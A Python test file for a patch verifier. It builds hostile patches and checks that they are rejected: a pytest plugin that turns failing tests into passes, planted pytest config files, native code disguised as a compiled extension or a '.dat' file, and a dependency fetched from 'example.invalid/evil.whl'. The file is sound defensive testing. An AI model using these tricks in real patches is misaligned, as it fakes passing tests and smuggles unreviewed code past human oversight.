"""Class D of attack report 1: name lists for what counts. What `verify` did not know by name
it left out: a compiled extension, a pytest configuration file it had no name for, a script
whose shebang names a wrapper of Python, a dependency file or table it had no pattern for. Each
read ACCEPT (or Dependencies PASS). The rule now is deny by default: a file charpin cannot read
is a Protected path; every run reads the base's pytest configuration file (`--config-file`)
and a config file the patch adds anywhere is a Protected path; a shebang is Python unless it
names another interpreter; dependency data counts unless known to be none.

Each attack from the report, then a second one of the same class that no rule names, through a
real `charpin-remote verify --hosts clean` (CLI main()); each read ACCEPT before the rule.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sysconfig
from pathlib import Path

import pytest

from tests.conftest import make_repo
from tests.hostile.test_verify_side_by_evidence import (
    TOML,
    _isolated,  # noqa: F401  (autouse fixture)
    gate,
    patch_of,
    verify,
)

pytestmark = pytest.mark.slow

MONEY = "def gross(net, rate):\n    return round(net * (100 + rate)) / 100\n"
TESTS = (
    "from shop.money import gross\n\n\ndef test_gross():\n    assert gross(10.0, 19) == 11.9\n\n\n"
    "def test_half_up():\n    assert gross(8.40, 19) == 10.0\n"
)
VAT = (
    "import json\nimport pathlib\n\n"
    'RATES = json.loads(pathlib.Path(__file__).with_name("rates.json").read_text())\n\n\n'
    "def gross_for(country, net):\n    return round(net * (100 + RATES[country])) / 100\n"
)
VAT_TEST = (
    "from shop.vat import gross_for\n\n\ndef test_de():\n"
    '    assert gross_for("DE", 100.0) == 119.0\n'
)
# A plugin that turns every failing test call into a pass.
AUDIT = (
    "def pytest_runtest_makereport(item, call):\n"
    '    if call.excinfo is not None and call.when == "call":\n'
    "        call.excinfo = None\n"
)
C_GROSS = (
    "double gross(double n, double r) { double x = n * (100 + r);"
    " return (double)(long long)(x + 0.5) / 100.0; }\n"
)


def shop(root: Path, toml: str = TOML, extra: dict[str, str] | None = None) -> Path:
    files = {
        "pyproject.toml": toml,
        "shop/__init__.py": "",
        "shop/money.py": MONEY,
        "tests/__init__.py": "",
        "tests/test_money.py": TESTS,
        **(extra or {}),
    }
    return make_repo(root, files)


def vat(root: Path, toml: str = TOML, tests: str = "tests") -> Path:
    files = {"pyproject.toml": toml, "shop/__init__.py": "", "shop/vat.py": VAT}
    files[f"{tests}/__init__.py"] = ""
    files[f"{tests}/test_vat.py"] = VAT_TEST
    files["shop/rates.json"] = '{"DE": 19, "FR": 20}\n'
    return make_repo(root, files)


def compiled(tmp_path: Path, source: str, out: Path, python_h: bool) -> None:
    cc = shutil.which("gcc") or shutil.which("cc")
    include = sysconfig.get_paths()["include"]
    if cc is None or (python_h and not Path(include, "Python.h").exists()):
        why = "needs a C compiler (and Python.h) to build the attack's native code"
        if os.environ.get("CHARPIN_REQUIRE_CC") == "1":
            pytest.fail(why + " (CHARPIN_REQUIRE_CC=1)")
        pytest.skip(why)
    c = tmp_path / "fast.c"
    c.write_text(source)
    out.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run([cc, "-O2", "-shared", "-fPIC", f"-I{include}", "-o", str(out), str(c)],
                   check=True)


def binary_patch(repo: Path, binary: Path, where: str, edits: dict[str, str]) -> bytes:
    shutil.copy(binary, repo / where)
    for rel, text in edits.items():
        (repo / rel).write_text(text)
    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
    diff = subprocess.run(
        ["git", "-C", str(repo), "diff", "--cached", "--binary"], capture_output=True, check=True
    ).stdout
    subprocess.run(["git", "-C", str(repo), "reset", "-q", "--hard", "HEAD"], check=True)
    return diff


def protected(report: dict[str, object]) -> str:
    row = gate(report, "Protected paths")  # type: ignore[arg-type]
    assert row["status"] == "FAIL", row
    return str(row["detail"])


def test_b11_a_compiled_extension_is_a_protected_path(tmp_path: Path) -> None:
    """b11: shop/_fast*.so and one import line; native code no gate reads."""
    repo = shop(tmp_path / "s")
    ext = sysconfig.get_config_var("EXT_SUFFIX") or ".so"
    module = (
        "#include <Python.h>\n"
        "static PyObject *gross(PyObject *s, PyObject *a) { double n, r;"
        ' if (!PyArg_ParseTuple(a, "dd", &n, &r)) return NULL; double x = n * (100 + r);'
        " return PyFloat_FromDouble((double)(long long)(x + 0.5) / 100.0); }\n"
        'static PyMethodDef M[] = {{"gross", gross, METH_VARARGS, ""}, {0}};\n'
        'static struct PyModuleDef D = {PyModuleDef_HEAD_INIT, "_fast", 0, -1, M};\n'
        "PyMODINIT_FUNC PyInit__fast(void) { return PyModule_Create(&D); }\n"
    )
    built = tmp_path / f"_fast{ext}"
    compiled(tmp_path, module, built, python_h=True)
    line = "\nfrom shop._fast import gross  # noqa: E402,F811  C speed-up\n"
    patch = binary_patch(repo, built, f"shop/_fast{ext}", {"shop/money.py": MONEY + line})
    _, report = verify(repo, patch)
    assert report["verdict"] == "REJECT", report["gates"]
    assert f"shop/_fast{ext} (compiled or native code" in protected(report)


def test_second_native_code_under_a_data_name_is_a_protected_path(tmp_path: Path) -> None:
    """Same class, no rule names it: a shared library saved as shop/table.dat and loaded with
    ctypes. Its name says data; its bytes are binary, and that is what counts."""
    repo = shop(tmp_path / "s")
    built = tmp_path / "table.dat"
    compiled(tmp_path, C_GROSS, built, python_h=False)
    money = (
        "import ctypes\nimport pathlib\n\n"
        '_LIB = ctypes.CDLL(str(pathlib.Path(__file__).with_name("table.dat")))\n'
        "_LIB.gross.restype = ctypes.c_double\n"
        "_LIB.gross.argtypes = [ctypes.c_double, ctypes.c_double]\n\n\n"
        "def gross(net, rate):\n    return _LIB.gross(net, rate)\n"
    )
    patch = binary_patch(repo, built, "shop/table.dat", {"shop/money.py": money})
    _, report = verify(repo, patch)
    assert report["verdict"] == "REJECT", report["gates"]
    assert "shop/table.dat (binary content" in protected(report)


def test_b12_a_new_pytest_toml_is_protected_and_never_read(tmp_path: Path) -> None:
    """b12: pytest 9 reads pytest.toml before pyproject.toml; the patch's loads its own plugin
    that passes the test its data change breaks."""
    toml = TOML + '\n[tool.pytest.ini_options]\nfilterwarnings = ["error"]\n'
    repo = vat(tmp_path / "s", toml)
    patch = patch_of(
        repo,
        {
            "shop/rates.json": '{"DE": 21, "FR": 20}\n',
            "pytest.toml": '[pytest]\naddopts = ["-p", "shop.audit"]\n',
            "shop/audit.py": AUDIT,
        },
    )
    _, report = verify(repo, patch)
    assert report["verdict"] == "REJECT", report["gates"]
    assert "pytest.toml (pytest configuration" in protected(report)
    # The judged run read the base's configuration: the broken rate fails its test.
    assert any(g["gate"] == "Tests" and g["status"] == "FAIL" for g in report["gates"])


def test_second_a_config_file_where_pytest_looks_first_is_never_read(tmp_path: Path) -> None:
    """Same class, not at the top: the base runs `pytest shop` (its tests live in the package),
    so pytest looks for its configuration in shop/ first; the patch puts a pytest.ini there."""
    toml = '[tool.charpin]\npytest_args = ["-q", "shop"]\n'
    repo = vat(tmp_path / "s", toml, tests="shop/tests")
    patch = patch_of(
        repo,
        {
            "shop/rates.json": '{"DE": 21, "FR": 20}\n',
            "shop/pytest.ini": "[pytest]\naddopts = -p shop.audit\n",
            "shop/audit.py": AUDIT,
        },
    )
    _, report = verify(repo, patch)
    assert report["verdict"] == "REJECT", report["gates"]
    assert "shop/pytest.ini (pytest configuration" in protected(report)
    assert any(g["gate"] == "Tests" and g["status"] == "FAIL" for g in report["gates"])


SCRIPT = (
    "{shebang}\ndef a():\n    return {a}\n\n\ndef b():\n    return {b}\n\n\n"
    "def c():\n    return {c}\n\n\nif __name__ == \"__main__\":\n    print(a() + b() + c())\n"
)
RUNS = (
    "import subprocess\nimport sys\n\n\ndef test_runs():\n"
    '    assert subprocess.run([sys.executable, "bin/report"]).returncode == 0\n'
)


@pytest.mark.parametrize(
    "shebang",
    [
        "#!/usr/bin/env -S uv run --script",  # b13
        "#!/opt/tools/bin/run-it",  # same class: an interpreter nobody named, Python inside
    ],
    ids=["b13-uv-run", "second-unknown-wrapper"],
)
def test_a_script_whose_shebang_ends_in_python_is_scope(tmp_path: Path, shebang: str) -> None:
    repo = make_repo(
        tmp_path / "s",
        {
            "pyproject.toml": TOML,
            "bin/report": SCRIPT.format(shebang=shebang, a=1, b=2, c=3),
            "tests/test_r.py": RUNS,
        },
    )
    patch = patch_of(repo, {"bin/report": SCRIPT.format(shebang=shebang, a=10, b=20, c=30)})
    _, report = verify(repo, patch)
    scope = gate(report, "Scope")
    assert scope["status"] == "FAIL", scope
    assert {"bin/report:a", "bin/report:b", "bin/report:c"} <= set(report["scope"])


@pytest.mark.parametrize(
    ("files", "edits", "named"),
    [
        (  # b16
            {
                "requirements.lock": "pytest\n",
                "pyproject.toml": TOML + '\n[tool.hatch.envs.default]\ndependencies = ["pytest"]\n',
            },
            {
                "requirements.lock": "pytest\nevil-pkg @ https://example.invalid/evil.whl\n",
                "pyproject.toml": TOML
                + '\n[tool.hatch.envs.default]\ndependencies = ["pytest", "evil-pkg"]\n',
            },
            ["requirements.lock", "[tool.hatch.envs.default].dependencies"],
        ),
        (  # same class: tox 4's native table and a lock file named by no tool charpin knows
            {
                "deploy/pins-lock.yaml": "pytest: 8\n",
                "pyproject.toml": TOML + '\n[tool.tox.env.ci]\ndeps = ["pytest"]\n',
            },
            {
                "deploy/pins-lock.yaml": "pytest: 8\nevil-pkg: 1\n",
                "pyproject.toml": TOML + '\n[tool.tox.env.ci]\ndeps = ["pytest", "evil-pkg"]\n',
            },
            ["deploy/pins-lock.yaml", "[tool.tox.env.ci].deps"],
        ),
    ],
    ids=["b16", "second-tox-and-lock"],
)
def test_dependency_data_counts_unless_known_to_be_none(
    tmp_path: Path, files: dict[str, str], edits: dict[str, str], named: list[str]
) -> None:
    repo = shop(tmp_path / "s", extra=files)
    _, report = verify(repo, patch_of(repo, edits))
    deps = gate(report, "Dependencies")
    assert deps["status"] == "FAIL", deps
    for name in named:
        assert name in deps["detail"]


def test_honest_data_docs_and_lint_changes_stay_accepted(tmp_path: Path) -> None:
    """Deny by default keeps honest patches: a new data file in the package, a README line and
    a linter setting read ACCEPT; the base's config pinned with --config-file changes nothing."""
    toml = TOML + '\n[tool.pytest.ini_options]\nfilterwarnings = ["error"]\n\n[tool.ruff]\n'
    repo = vat(tmp_path / "s", toml + "line-length = 100\n")
    patch = patch_of(
        repo,
        {
            "shop/rates.json": '{"DE": 19, "FR": 20, "AT": 20}\n',
            "shop/py.typed": "",
            "README.md": "VAT rates per country.\n",
            "pyproject.toml": toml + "line-length = 99\n",
        },
    )
    code, report = verify(repo, patch)
    assert report["verdict"] == "ACCEPT", report["gates"]
    assert code == 0
